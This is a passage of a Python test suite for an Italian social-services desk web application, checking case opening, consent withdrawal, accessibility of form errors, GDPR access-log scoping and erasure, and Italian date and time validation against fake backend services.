    assert "h-0old" not in form and 'type="hidden" name="household_id" value="h-5f1c0a9e7b2d"' in form, form
    assert "Nucleo: Nucleo di Amina Okafor" in text_of(form), text_of(form)
    opening = {"csrf": "csrf-maria", "form_key": form_key_of(page, "/persons/p-1/cases"), "action_area":
               "taking_charge", "channel": "desk", "opened_on": today, "household_id": "h-5f1c0a9e7b2d"}  # fmt: skip
    assert (await desk.client.post("/persons/p-1/cases", data=opening)).status_code == 303
    assert posted[-1][1]["household_id"] == "h-5f1c0a9e7b2d", posted

    # two households now (a member of both): the operator chooses, none chosen beforehand
    other = a_household("h-2", ("p-7", "Halima Diallo"), ("p-7", "Halima Diallo", None), ("p-1", "Amina Okafor", None))
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = with_households(today, earlier, left, now, other)
    page = (await desk.client.get("/persons/p-1")).text
    form = page.split('action="/persons/p-1/cases"', 1)[1].split("</form>", 1)[0]
    select = re.search(r'<select id="household_id" name="household_id" required[^>]*>(.*?)</select>', form, re.S)
    assert select is not None, form
    assert re.match(r'<option value="">— scelga —</option>', select.group(1)) and "selected" not in select.group(1)
    options = re.findall(r'<option value="([^"]+)"[^>]*>([^<]*)</option>', select.group(1))
    assert options == [("h-2", "Nucleo di Halima Diallo"), ("h-5f1c0a9e7b2d", "Nucleo di Amina Okafor")], options
    calls = len(posted)
    r = await desk.client.post("/persons/p-1/cases", data=opening | {"household_id": ""})
    assert r.status_code == 422 and len(posted) == calls, r.text
    assert 'aria-describedby="household_id-error"' in r.text and "scelga il nucleo" in text_of(r.text), r.text
    r = await desk.client.post("/persons/p-1/cases", data=opening | {"household_id": "h-2"})
    assert r.status_code == 303 and posted[-1][1]["household_id"] == "h-2", posted

    # in no household now: said, and no form
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = with_households(today, earlier, left)
    page = (await desk.client.get("/persons/p-1")).text
    assert 'action="/persons/p-1/cases"' not in page
    assert "La persona non fa parte di nessun nucleo: per aprire una pratica" in text_of(page), text_of(page)


async def test_a_cooperative_withdrawing_the_sharing_consent_is_told_so_not_denied(desk: Desk) -> None:
    """From a review: a cooperative's operator recording the person's withdrawal of the sharing consent was sent back
    to the cartella, which intake then refused her: "access denied", and the access log had a denied attempt she never
    made. A withdrawal that ends her own access is confirmed on its own page; the cartella is not read again."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    recorded: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/consents")] = keeping(recorded)
    await desk.as_operator(LUCA)
    page = (await desk.client.get("/persons/p-1")).text
    reads = desk.services.calls.count(("intake", "GET", "/persons/p-1/record"))
    withdrawal = {"csrf": "csrf-luca", "form_key": form_key_of(page, "/persons/p-1/consents"),
                  "purpose": "partner_sharing", "granted": "false"}  # fmt: skip
    r = await desk.client.post("/persons/p-1/consents", data=withdrawal)
    assert r.status_code == 200, (r.status_code, r.headers.get("location"))
    said = text_of(r.text)
    assert "Consenso revocato: la persona non è più visibile per il suo ente" in said, said
    assert recorded[-1][1]["granted"] is False and recorded[-1][1]["purpose"] == "partner_sharing", recorded
    assert desk.services.calls.count(("intake", "GET", "/persons/p-1/record")) == reads  # not read again
    async with desk.pool.acquire() as conn:
        outcomes = await conn.fetch("select action, outcome from access_log where operator = 'luca'")
    assert [tuple(o) for o in outcomes] == [("cartella", "shown")], outcomes
    # the city's staff keep seeing the person: back at the consents, as before
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    r = await desk.client.post("/persons/p-1/consents", data=withdrawal | {
        "csrf": "csrf-maria", "form_key": form_key_of(page, "/persons/p-1/consents")})  # fmt: skip
    assert r.status_code == 303 and "done=consents" in r.headers["location"], r.text


async def test_a_person_without_a_recorded_name_is_a_named_link_in_the_search_results(desk: Desk) -> None:
    """From a review (axe `link-name`): a person taken in charge from the street with no name yet was an empty link
    among the results. The link says what the cartella's title says: "nome non registrato" and the id."""
    desk.services.answers[("intake", "POST", "/persons/search")] = [
        {"person_id": "p-street", "birth_date": None, "sex": "male", "nationality": None, "identity": None},
        {"person_id": "p-2", "birth_date": "1990-01-01", "sex": "male", "nationality": "MA",
         "identity": {"given_name": None, "family_name": None}},
        {"person_id": "p-3", "birth_date": None, "sex": "female", "nationality": None,
         "identity": {"given_name": "Amina", "family_name": None}},
    ]  # fmt: skip
    await desk.as_operator(MARIA)
    page = await desk.client.get("/?case_id=c-1")
    assert page.status_code == 200, page.text
    links = {m.group(1): text_of(m.group(2)).strip() for m in re.finditer(
        r'<a href="/persons/([^"?]+)\?[^"]*">(.*?)</a>', page.text, re.S)}  # fmt: skip
    assert links == {"p-street": "nome non registrato p-street", "p-2": "nome non registrato p-2", "p-3": "Amina"}


async def test_every_refused_select_is_tied_to_its_refusal_for_a_screen_reader(desk: Desk) -> None:
    """From a review: the employment status was refused with no word at its field, and the channel, the housing
    situation, the document's kind, the consent's purpose and a member's sex were refused next to the select without
    `aria-invalid`/`aria-describedby` (a screen reader on the select heard nothing wrong)."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    sent = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0"}
    refused = {  # (the form's address, the field refused, what was sent)
        "/persons/p-1/assessments": (("employment_status", "housing_situation"), ("intake", "/cases/assessments"),
                                     {"housing_situation": "precarious", "employment_status": "unemployed",
                                      "monthly_income": "0", "assessed_on": today}),
        "/persons/p-1/cases": (("channel",), ("intake", "/cases"), {"household_id": "h-5f1c0a9e7b2d",
                               "action_area": "taking_charge", "channel": "desk", "opened_on": today}),
        "/persons/p-1/consents": (("purpose",), ("intake", "/consents"), {"purpose": "service", "granted": "true"}),
        "/persons/p-1/documents": (("document_kind",), ("intake", "/persons/p-1/documents"), {"document_kind": ""}),
    }  # fmt: skip
    for action, (names, (service, path), data) in refused.items():

        def every(request: httpx.Request, names: tuple[str, ...] = names) -> httpx.Response:
            errors = [{"field": n, "reason": "not a code of the list"} for n in names]
            return httpx.Response(422, json={"status": 422, **errors[0], "errors": errors})

        desk.services.answers[(service, "POST", path)] = every
        r = await desk.client.post(action, data=sent | data)
        assert r.status_code == 422, (action, r.text)
        for name in names:
            select = re.search(rf'<select id="{name}" name="{name}"[^>]*>', r.text)
            assert select is not None, (action, name)
            assert f'aria-invalid="true" aria-describedby="{name}-error"' in select.group(0), (action, select.group(0))
            assert f'<span class="field-error" id="{name}-error">' in r.text, (action, name)
    desk.services.answers[("intake", "POST", "/persons")] = refusing("sex", "not a code of the list")
    member = {"csrf": "csrf-maria", "m0_given_name": "Amina", "m0_birth_date": "14/03/1985", "m0_sex": "female",
              "m0_nationality": "NG"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=member)
    assert r.status_code == 422, r.text
    select = re.search(r'<select id="m0_sex" name="m0_sex"[^>]*>', r.text)
    assert select is not None and 'aria-invalid="true" aria-describedby="m0_sex-error"' in select.group(0), r.text
    assert '<span class="field-error" id="m0_sex-error">' in r.text


async def test_a_note_or_a_document_of_a_late_evening_is_dated_on_its_day_in_rome(desk: Desk) -> None:
    """From a review: the diary and the documents cut the day out of intake's UTC time (`written_at[:10]`), so a note
    written at 00:30 in Rome on 2 March read "1 mar". Each is dated on its day in Rome."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    late = "2026-03-01T23:30:00+00:00"  # 00:30 on 2 March in Rome (CET)
    summer = "2026-07-14T22:15:00+00:00"  # 00:15 on 15 July in Rome (CEST)
    desk.services.answers[("intake", "GET", "/persons/p-1/notes")] = [
        {"note_id": "n-1", "written_at": late, "written_by": "desk.maria", "text": "Colloquio serale"}
    ]
    desk.services.answers[("intake", "GET", "/persons/p-1/documents")] = [
        {"document_id": "d-1", "kind": "residence_permit", "filename": "permesso.pdf", "media_type": "application/pdf",
         "uploaded_at": summer, "uploaded_by": "desk.maria", "size_bytes": 17}]  # fmt: skip
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get("/persons/p-1")).text)
    assert f"{i18n.day('2026-03-02', 'it')} · Maria Rossi : Colloquio serale" in text, text
    assert f"permesso.pdf {i18n.day('2026-07-15', 'it')} · Maria Rossi" in text, text


async def test_a_case_is_closed_at_the_desk_with_its_outcome_by_staff_or_its_partner(desk: Desk) -> None:
    """From a review: intake closes a case (`POST /cases/closures`: the case, an outcome from `case_outcome`, the day)
    but the desk had no form for it, so a case could only be closed with curl. The cartella's cases section has one,
    for the city's staff and the case's cooperative: refused at its fields in Italian, sent twice one request, and
    back at the cases saying so."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    closed: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/cases/closures")] = keeping(closed)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    form = page.split('action="/persons/p-1/closures"', 1)[1].split("</form>", 1)[0]
    assert "Chiudi la pratica" in text_of(form) and 'type="hidden" name="case_id" value="c-8e2b7d41a9f0"' in form
    assert re.search(r'<select id="case_outcome" name="case_outcome" required[^>]*>\s*<option value="">', form), form
    assert page.index('action="/persons/p-1/closures"') < page.index('id="h-housing"')  # in the cases' section
    key = form_key_of(page, "/persons/p-1/closures")
    sent = {"csrf": "csrf-maria", "form_key": key, "case_id": "c-8e2b7d41a9f0", "case_outcome": "",
            "closed_on": typed_day(today)}  # fmt: skip
    r = await desk.client.post("/persons/p-1/closures", data=sent)  # no outcome chosen: not sent, said at its field
    assert r.status_code == 422 and closed == [], r.text
    assert 'aria-describedby="case_outcome-error"' in r.text and "campo obbligatorio" in text_of(r.text), r.text
    outcome = re.findall(r'<option value="([^"]+)"', form.split('name="case_outcome"', 1)[1])[0]
    desk.services.answers[("intake", "POST", "/cases/closures")] = refusing("closed_on", "is in the future")
    r = await desk.client.post("/persons/p-1/closures", data=sent | {"case_outcome": outcome})
    assert r.status_code == 422, r.text
    assert re.search(r'id="closed_on-error">è nel futuro<', r.text) and f'value="{outcome}" selected' in r.text
    desk.services.answers[("intake", "POST", "/cases/closures")] = keeping(closed)
    for _ in range(2):
        r = await desk.client.post("/persons/p-1/closures", data=sent | {"case_outcome": outcome})
        assert r.status_code == 303 and r.headers["location"].endswith("done=closures#h-cases"), r.text
    assert closed[0] == closed[1], closed  # one request for intake
    assert closed[0][1] == {"case_id": "c-8e2b7d41a9f0", "outcome": outcome, "closed_on": today}, closed
    assert "Pratica chiusa." in text_of((await desk.client.get(r.headers["location"])).text)
    # the case's cooperative closes it too; another cooperative's operator is offered no form for it
    await desk.as_operator(LUCA)
    assert 'action="/persons/p-1/closures"' in (await desk.client.get("/persons/p-1")).text
    borgo = Operator("borgo", "Operatrice Borgo", OperatorRole.PARTNER, "torino", "coop-borgo", code="op-b0760000001a")
    await desk.as_operator(borgo)
    assert 'action="/persons/p-1/closures"' not in (await desk.client.get("/persons/p-1")).text


async def test_a_citys_dpo_reads_no_other_citys_access_log_by_a_persons_id(desk: Desk) -> None:
    """A DPO's review (GDPR, tenancy): filtered by a person's id, the page gave every city's entries about that id, so
    Trieste's DPO typing a Torino person's id read who at Torino's desk opened her cartella, when and why, and the
    printout for the interested party alike. Another city's entries come in only as attempts refused on a person her
    city's operators were shown (Trieste's partner trying a Torino person stays on Torino's DPO's page)."""
    rpd_trieste = Operator("rpd-ts", "RPD Trieste", OperatorRole.DPO, "trieste", None)
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
        await store.log_access(conn, LUCA, "p-1", "case_work", "cartella", "denied")
        await store.log_access(conn, SARA, "p-1", "case_work", "cartella", "denied")
    await desk.as_operator(rpd_trieste)
    for url in ("/access-log?person_id=p-1", "/access-log/subject/p-1", "/access-log.csv?person_id=p-1"):
        page = await desk.client.get(url)
        assert page.status_code == 200, page.text
        text = text_of(page.text)
        assert "Maria Rossi" not in text and "maria" not in text and "Luca Bianchi" not in text, (url, text)
    await desk.as_operator(RPD)
    text = text_of((await desk.client.get("/access-log?person_id=p-1")).text)
    assert "Maria Rossi" in text and "Luca Bianchi" in text and "Sportello sara p-1" in text, text


async def test_a_cartella_opened_by_a_merged_records_id_is_logged_under_the_person_shown(desk: Desk) -> None:
    """A DPO's review (GDPR art. 15): a cartella opened by the id of a registration merged into another (a
    cooperative's id for her, in a link or typed) shows the surviving record, whose id the page shows beside her name
    and the DPO is given; the access log kept the id asked for, so her printout missed that view. A view is logged
    under the person intake showed."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    for part in ("record", "notes", "documents"):  # b-7 merged into p-1: intake answers p-1's
        desk.services.answers[("intake", "GET", f"/persons/b-7/{part}")] = desk.services.answers.get(
            ("intake", "GET", f"/persons/p-1/{part}"), a_record(today, earlier)
        )
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/b-7")
    assert page.status_code == 200, page.text
    await desk.as_operator(RPD)
    printout = text_of((await desk.client.get("/access-log/subject/p-1")).text)
    assert "La sua cartella sociale" in printout and "Maria Rossi" in printout, printout


async def test_the_cartella_shows_all_that_intake_holds_of_the_person(desk: Desk) -> None:
    """A DPO's review (GDPR art. 15, a copy of the data): the operator answering a subject-access request opens the
    cartella with that purpose and prints it, but the cartella left out what intake holds and gives of the person —
    phone, address, languages, whether she reads and writes — so the copy was not complete. They are shown, in the
    operator's language (the languages by their names, not their codes)."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    record = a_record(today, earlier)
    record["person"] |= {"languages": ["ar", "fr"], "literate": False}
    record["person"]["identity"] |= {"phone": "+39 333 1234567", "address": "Via Roma 1, Torino"}
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get("/persons/p-1?purpose=subject_access")).text)
    assert "Telefono +39 333 1234567" in text and "Indirizzo Via Roma 1, Torino" in text, text
    assert "Lingue arabo, francese" in text and "Sa leggere e scrivere No" in text, text
    english = text_of((await desk.client.get("/persons/p-1?purpose=subject_access&lang=en")).text)
    assert "Languages Arabic, French" in english and "Reads and writes No" in english, english


async def test_a_persons_erasure_page_in_english_its_key_its_confirmation_and_intakes_refusals(desk: Desk) -> None:
    """The erasure page (GDPR art. 17, entrypoints/erasure_web.py) with exactly what intake answers: in English when
    asked; nothing is sent to intake until the identifier is typed; the erasure goes with the form's key
    (`desk:<form_key>:erasure`, so a double submit is one erasure); intake's refusal is said in the operator's
    language at the page's top, recorded as `refused`, never as a raw error; intake away is the desk's 503 page."""
    grace = {"person_id": "p-1", "erased": False, "identity": {"given_name": "Grace", "family_name": "Adeyemi"}}
    desk.services.answers[("intake", "GET", "/persons/p-1")] = grace
    sent: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/persons/p-1/erasure")] = keeping(sent, 200)
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1/erasure?lang=en")
    said = text_of(page.text)
    assert page.status_code == 200 and "Grace Adeyemi" in said, said
    assert "destroyed in every copy of the event log" in said and "cannot be undone" in said, said
    key = form_key_of(page.text, "/persons/p-1/erasure")
    form = {"csrf": "csrf-maria", "form_key": key, "confirm_id": "p-2"}
    wrong = await desk.client.post("/persons/p-1/erasure", data=form)
    assert wrong.status_code == 422 and "type exactly the identifier shown" in text_of(wrong.text)
    assert form_key_of(wrong.text, "/persons/p-1/erasure") == key  # the same form: sent again, the same request
    assert sent == []
    done = await desk.client.post("/persons/p-1/erasure", data=form | {"confirm_id": " p-1 "})
    assert (done.status_code, done.headers["location"]) == (303, "/persons/p-1/erasure?done=1")
    assert sent == [(f"desk:{key}:erasure", {})]
    # intake's answer now: erased, no name; the page says so, read back from intake (not from the address alone)
    desk.services.answers[("intake", "GET", "/persons/p-1")] = {**grace, "erased": True, "identity": {}}
    outcome = text_of((await desk.client.get("/persons/p-1/erasure?done=1")).text)
    assert "The person's identifying data have been erased" in outcome and "Grace" not in outcome, outcome
    desk.services.answers[("intake", "GET", "/persons/p-1")] = grace  # not erased: `done=1` says nothing
    assert "have been erased" not in text_of((await desk.client.get("/persons/p-1/erasure?done=1")).text)
    refusal = {"status": 403, "field": "", "reason": "staff of trieste cannot act in torino"}
    desk.services.answers[("intake", "POST", "/persons/p-1/erasure")] = httpx.Response(403, json=refusal)
    refused = await desk.client.post("/persons/p-1/erasure?lang=it", data=form | {"confirm_id": "p-1"})
    said = text_of(refused.text)
    assert refused.status_code == 403 and "chi opera per Trieste non può accedere ai dati di Torino" in said, said
    assert "Questa richiesta non ha cancellato nulla" in said and "nome non registrato" not in said, said
    desk.services.away.add("intake")
    away = await desk.client.post("/persons/p-1/erasure", data=form | {"confirm_id": "p-1"})
    assert away.status_code == 503, away.text
    async with desk.pool.acquire() as conn:
        rows = await conn.fetch("select operator, purpose, action, outcome from access_log order by entry_id")
    erasures = [tuple(r) for r in rows if r["action"] == "erasure"]
    assert erasures == [("maria", "erasure_request", "erasure", "erased"),
                        ("maria", "erasure_request", "erasure", "refused")]  # fmt: skip
    assert {r["action"] for r in rows} == {"erasure form", "erasure"}


async def test_an_erasure_by_a_merged_registrations_id_is_logged_under_the_surviving_record(desk: Desk) -> None:
    """Intake erases, by the id of a registration merged into another, the surviving record and answers its id: the
    DPO's entry names that record, the one her filter and the person's printout are by (as a view's: `shown_as`)."""
    amina = {"person_id": "a-1", "erased": False, "identity": {"given_name": "Amina", "family_name": "Okonkwo"}}
    desk.services.answers |= {
        ("intake", "GET", "/persons/b-7"): amina,
        ("intake", "POST", "/persons/b-7/erasure"): {"person_id": "a-1", "erased_on": clock.today().isoformat()},
    }
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/b-7/erasure")
    form = {"csrf": "csrf-maria", "form_key": form_key_of(page.text, "/persons/b-7/erasure"), "confirm_id": "b-7"}
    assert (await desk.client.post("/persons/b-7/erasure", data=form)).status_code == 303
    async with desk.pool.acquire() as conn:
        rows = await conn.fetch("select person_id, action, outcome from access_log order by entry_id")
    assert [tuple(r) for r in rows] == [("a-1", "erasure form", "shown"), ("a-1", "erasure", "erased")]


# ------------------------------------------------------------ an outside tester's review: the desk speaks Italian


def rfc3339_refusing(services: FakeServices) -> list[dict[str, Any]]:
    """Intake's booking as it answers a start and an end that are no times (both fields, its English reason)."""
    booked: list[dict[str, Any]] = []

    def book(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        booked.append(body)
        reason = "must be an RFC 3339 date-time string with its offset, e.g. 2026-12-06T09:30:00+01:00"
        wrong = [{"field": f, "reason": reason} for f in ("starts_at", "ends_at") if "T" not in str(body.get(f))]
        if wrong:
            return httpx.Response(422, json={"status": 422, **wrong[0], "errors": wrong})
        return httpx.Response(201, json=body)

    services.answers[("intake", "POST", "/appointments")] = book
    return booked


async def test_a_wrong_time_at_the_agenda_is_said_in_italian_at_the_time_alone(desk: Desk) -> None:
    """An outside tester booked at "25:00": intake's English "must be an RFC 3339 date-time string with its offset"
    was said under two fields (Ora and Durata). The desk reads the time itself: said once, at the time, in Italian,
    and intake is not asked; moving an appointment to such a time likewise."""
    agenda_services(desk.services)
    booked = rfc3339_refusing(desk.services)
    await desk.as_operator(MARIA)
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    form = {"csrf": "csrf-maria", "day": tomorrow, "time": "25:00", "minutes": "30", "party": "p-1",
            "purpose": "plan_review", "operator": "maria"}  # fmt: skip
    for wrong in ("25:00", "9:75", "mezzogiorno"):
        r = await desk.client.post("/agenda?lang=it", data=form | {"time": wrong})
        assert r.status_code == 422, r.text
        said = text_of(r.text.split('id="time-error"', 1)[1].split("</span>", 1)[0])
        assert "ora non valida: scriva ad esempio 09:30" in said, said
        assert 'id="minutes-error"' not in r.text and "RFC 3339" not in r.text, text_of(r.text)
        assert f'value="{wrong}"' in r.text  # what was typed, kept
    assert booked == []
    r = await desk.client.post("/agenda?lang=en", data=form)
    assert "not a time of day: type it as for example 09:30" in text_of(r.text), text_of(r.text)
    r = await desk.client.post("/agenda?lang=it", data=form | {"time": "9.30"})
    assert r.status_code == 303 and "T09:30:00" in booked[-1]["starts_at"], r.text
    desk.services.answers[("intake", "GET", "/appointments")] = [marias_appointment(tomorrow)]
    move = {"csrf": "csrf-maria", "day": tomorrow, "new_day": tomorrow, "new_time": "25:00", "minutes": "30"}
    r = await desk.client.post("/agenda/apt-1/move?lang=it", data=move)
    assert r.status_code == 422 and "ora non valida: scriva ad esempio 09:30" in text_of(r.text), text_of(r.text)
    r = await desk.client.post("/agenda/apt-1/move?lang=it", data=move | {"new_time": "10:00", "new_day": "2026-02-30"})
    assert r.status_code == 422 and "questa data non esiste" in text_of(r.text), text_of(r.text)
    assert ("intake", "POST", "/appointments/apt-1/move") not in desk.services.calls


async def test_a_day_that_does_not_exist_is_said_by_the_desk_in_italian_whatever_the_service_says(desk: Desk) -> None:
    """ "2026-31-12" typed year first when opening a case, "2026-02-30" for a money-tutoring session: the desk passed
    them on as typed and the services answered Python's "month must be in 1..12" / "day is out of range for month",
    shown as such. The desk reads every date field fully itself: a day the calendar has not is said at its field in
    Italian, and no service is asked."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    aurora = {"partner_id": "coop-aurora", "name": "Cooperativa Aurora"}
    desk.services.answers[("intake", "GET", "/partners")] = [aurora]
    opened: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/cases")] = keeping(opened)
    python = {"status": 422, "field": "on", "reason": "day is out of range for month"}
    desk.services.answers[("payments", "POST", "/tutoring-sessions")] = httpx.Response(422, json=python)
    await desk.as_operator(MARIA)
    case = {"csrf": "csrf-maria", "action_area": "taking_charge", "channel": "desk", "partner": "coop-aurora",
            "household_id": "h-5f1c0a9e7b2d"}  # fmt: skip
    for typed in ("2026-31-12", "31/02/2027", "30.02.2026"):
        r = await desk.client.post("/persons/p-1/cases?lang=it", data=case | {"opened_on": typed})
        assert r.status_code == 422, (typed, r.status_code)
        said = text_of(r.text.split('id="opened_on-error"', 1)[1].split("</span>", 1)[0])
        assert "questa data non esiste: controlli il giorno e il mese (gg/mm/aaaa)" in said, (typed, said)
        assert f'value="{typed}"' in r.text  # as typed
    assert opened == []
    r = await desk.client.post("/persons/p-1/cases?lang=it", data=case | {"opened_on": "domani"})
    assert "non è una data valida: la scriva come gg/mm/aaaa" in text_of(r.text) and opened == []
    tutoring = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "topics": "budgeting", "on": "2026-02-30",
                "outcome": "x"}  # fmt: skip
    r = await desk.client.post("/persons/p-1/tutoring?lang=it", data=tutoring)
    assert r.status_code == 422 and "questa data non esiste" in text_of(r.text), text_of(r.text)
    assert "out of range" not in r.text
    assert ("payments", "POST", "/tutoring-sessions") not in desk.services.calls
    r = await desk.client.post("/persons/p-1/cases?lang=it", data=case | {"opened_on": today})
    assert r.status_code == 303 and opened[-1][1]["opened_on"] == today, text_of(r.text)


async def test_a_search_by_a_case_nobody_has_says_so_in_italian(desk: Desk) -> None:
    """Aurora's operator searched a Trieste case number: intake's 404 "No case <id>." was shown on the Italian page."""
    refusal = {"status": 404, "field": "case_id", "reason": "no case c-trieste-1"}
    desk.services.answers[("intake", "POST", "/persons/search")] = httpx.Response(404, json=refusal)
    await desk.as_operator(LUCA)
    page = await desk.client.get("/", params={"case_id": "c-trieste-1", "lang": "it"})
    assert page.status_code == 404, page.status_code
    said = text_of(page.text.split('role="alert">', 1)[1].split("</p>", 1)[0])
    assert "Nessuna pratica con il numero c-trieste-1" in said, said
    assert "No case" not in page.text


async def test_the_case_and_its_transfer_start_on_choose_for_the_partner_and_none_chosen_is_said(desk: Desk) -> None:
    """ "Apri una pratica" opened on the city's first cooperative: a case opened without looking was Aurora's (docs:
    no choice is made for the operator). The partner and the transfer's new partner start on "— scelga —", are
    required, and one left blank is said at its field in Italian, nothing sent."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    desk.services.answers[("intake", "GET", "/partners")] = [
        {"partner_id": "coop-aurora", "name": "Cooperativa Aurora"},
        {"partner_id": "coop-borgo", "name": "Borgo"},
    ]
    opened: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/cases")] = keeping(opened)
    desk.services.answers[("intake", "POST", "/cases/c-8e2b7d41a9f0/transfer")] = keeping(opened)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1?lang=it")).text
    for name in ("partner", "to_partner"):
        select = _select(page, name)
        first = re.search(r"<option[^>]*>([^<]*)</option>", select)
        assert first and 'value=""' in first.group(0) and first.group(1) == "— scelga —", (name, select[:300])
        assert " required" in select.split(">", 1)[0] and "selected" not in select, (name, select[:300])
    case = {"csrf": "csrf-maria", "action_area": "taking_charge", "channel": "desk", "partner": "",
            "household_id": "h-5f1c0a9e7b2d", "opened_on": today}  # fmt: skip
    r = await desk.client.post("/persons/p-1/cases?lang=it", data=case)
    assert r.status_code == 422, r.status_code
    said = text_of(r.text.split('id="partner-error"', 1)[1].split("</span>", 1)[0])
    assert "scelga l'ente partner" in said, said
    transfer = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "to_partner": "", "transfer_on": today}
    r = await desk.client.post("/persons/p-1/transfer?lang=it", data=transfer)
    assert r.status_code == 422, r.status_code
    said = text_of(r.text.split('id="to_partner-error"', 1)[1].split("</span>", 1)[0])
    assert "scelga l'ente partner" in said, said
    assert opened == []
    # a street contact's place, of an outing to several places, started on the first: chosen by the operator too
    outing = {"outing_id": "out-1", "unit_id": "unit-7f3a", "on_date": today, "start_time": "20:00",
              "end_time": "23:00", "places": ["Stazione", "Parco"], "staff": ["maria"], "contacts": []}  # fmt: skip
    desk.services.answers[("intake", "GET", "/outings/out-1")] = outing
    contacts: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/street-contacts")] = keeping(contacts)
    select = _select((await desk.client.get("/outreach/outings/out-1?lang=it")).text, "place")
    first = re.search(r"<option[^>]*>([^<]*)</option>", select)
    assert first and 'value=""' in first.group(0) and first.group(1) == "— scelga —", select
    assert " required" in select.split(">", 1)[0] and "selected" not in select, select
    contact = {"csrf": "csrf-maria", "contacted_on": today, "age_band": "adult", "sex": "male", "place": ""}
    await desk.client.post("/outreach/outings/out-1/contacts", data=contact)
    assert contacts and "place" not in contacts[-1][1], contacts  # left out: intake says "campo obbligatorio"


async def test_one_operators_agenda_is_asked_with_her_party_and_the_to_do_names_an_operator_within_hers(
    desk: Desk,
) -> None:
    """An operator value names an operator within her party (the city's staff or one cooperative): the agenda of one
    operator (`/agenda?operator=<user name>`) asks intake for her code with her cooperative (`operator_partner`), the
    city's staff's with none; and the to-do list named a reminder's operator by her code alone, so a cooperative's
    `giulia` was said as the city's Giulia Verdi. It names her within the reminder's party."""
    tomorrow = clock.today() + timedelta(days=1)
    starts = f"{tomorrow.isoformat()}T09:00:00+00:00"

    def reminder(aid: str, party: str | None) -> dict[str, Any]:
        return {"kind": "appointment_reminder_due", "appointment_id": aid, "operator": "giulia",
                "operator_partner": party, "person_id": None, "street_id": None, "case_id": None,
                "purpose": "needs_assessment", "starts_at": starts, "since": clock.today().isoformat(),
                "waiting_days": 0}  # fmt: skip

    desk.services.answers |= {
        ("intake", "GET", "/appointments"): [],
        ("intake", "GET", "/mobile-units"): [],
        ("housing", "GET", "/reminders"): [],
        ("payments", "GET", "/reminders"): [],
        ("intake", "GET", "/partners"): [{"partner_id": "coop-aurora", "name": "Cooperativa Aurora"}],
        ("intake", "GET", "/appointments/reminders/open"): [reminder("apt-city", None),
                                                            reminder("apt-coop", "coop-aurora")],
    }  # fmt: skip
    for op in (GIULIA, LUCA, MARIA):
        await desk.as_operator(op)

    def asked() -> list[dict[str, str]]:
        return [dict(r.url.params) for r in desk.services.requests if r.url.path == "/appointments"]

    day = tomorrow.isoformat()
    for username, party in (("luca", {"operator_partner": "coop-aurora"}), ("giulia", {})):
        desk.services.requests.clear()
        page = await desk.client.get(f"/agenda?day={day}&operator={username}&lang=it")
        assert page.status_code == 200, page.text
        code = {"luca": "luca", "giulia": "giulia"}[username]
        assert asked() == [{"day": day, "operator": code, **party}], asked()
        assert f'value="{username}"' in page.text  # the filter kept in its field
    desk.services.requests.clear()
    refused = await desk.client.get(f"/agenda?day={day}&operator=nobody&lang=it")
    assert refused.status_code == 422 and "«nobody» non è un operatore del suo Comune" in text_of(refused.text)
    assert asked() == [{"day": day}], asked()  # the day's agenda, not narrowed
    todo = text_of((await desk.client.get("/todo?lang=it")).text)
    assert todo.count("nell'agenda di Giulia Verdi") == 1, todo  # the city's giulia: Giulia Verdi
    assert "nell'agenda di un operatore senza account allo sportello giulia" in todo, todo  # the cooperative's
    # Her own appointments' reminders: intake asked for her code alone, which it reads within the caller's party (a
    # cooperative's token: its own operator; the city's staff's: the city's)
    for op, code in ((GIULIA, "giulia"), (LUCA, "luca")):
        await desk.as_operator(op)
        desk.services.requests.clear()
        mine = await desk.client.get("/todo?mine=1&lang=it")
        assert mine.status_code == 200, mine.text
        sent = [dict(r.url.params) for r in desk.services.requests if r.url.path == "/appointments/reminders/open"]
        assert sent == [{"operator": code}], sent
        assert 'href="/todo"' in mine.text  # the way back to all the reminders


def hidden_fields(html: str, action: str) -> dict[str, str]:
    """The hidden fields of the form posting to `action`, as a browser sends them back."""
    form = html.split(f'method="post" action="{action}"', 1)[1].split("</form>", 1)[0]
    return dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', form))


